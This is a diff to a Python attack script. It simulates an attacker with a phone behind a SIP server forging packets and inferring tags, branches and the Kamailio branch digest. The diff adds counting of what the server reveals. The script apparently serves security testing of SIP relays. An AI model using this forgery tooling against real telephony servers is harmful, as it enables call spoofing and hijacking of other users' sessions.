@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0-only
 """An attacker who has a phone behind the same server: the phone chooses what the server relays.
-All packets but the phone's own have somebody else's address. Prints how many were forged."""
+All packets but the phone's own have somebody else's address. Prints how many were forged,
+and how many of its tags, nonces and branches the server took."""
 
 import argparse
 import hashlib
@@ -51,6 +52,7 @@ class Phone:
             forger.request("INVITE", "evil", call_id=call_id, to_user=to_user)
             text = self.wait(b"INVITE")
             if text:
+                forger.learned += 1
                 self.send(sip.answer(text, status, reason, to_tag=to_tag, headers=headers))
             time.sleep(0.05)
 
@@ -104,6 +106,7 @@ def fork(forger, options):
     phone = Phone(options.own, 5080, ["evil"], [forger.victim])
     phone.send(sip.request("INVITE", "evil", SERVER, phone.own))
     branch = sip.branch(phone.wait(b"INVITE"))
+    forger.learned += bool(branch)
     stem = branch.rpartition(".")[0]
     for number in range(4):
         if f"{stem}.{number}" != branch:
@@ -129,7 +132,7 @@ def stateless(forger, _options):
     phone.send(calls[0])
     seen = sip.branch(phone.wait(b"INVITE"))
     head, digest, tail = seen.split(".")
-    print(f"# computed {'right' if digest == kamailio_digest(calls[0]) else 'wrong'}: {seen}")
+    forger.learned += digest == kamailio_digest(calls[0])
     phone.send(calls[1])
     time.sleep(0.2)
     respond(forger, f"{head}.{kamailio_digest(calls[1])}.{tail}")
@@ -154,6 +157,7 @@ def from_tag(forger, options):
     phone.send(sip.request("INVITE", "bob", SERVER, phone.own, call_id=call_id,
                            from_tag=tag_sent))
     time.sleep(0.3)
+    forger.learned += 1
     malformed(forger, call_id, tag_sent)
 
 
@@ -178,7 +182,7 @@ def main():
     options = parser.parse_args()
     forger = Forger(options)
     COMMANDS[options.command](forger, options)
-    print(forger.sent)
+    print(forger.sent, forger.learned)
 
 
 if __name__ == "__main__":
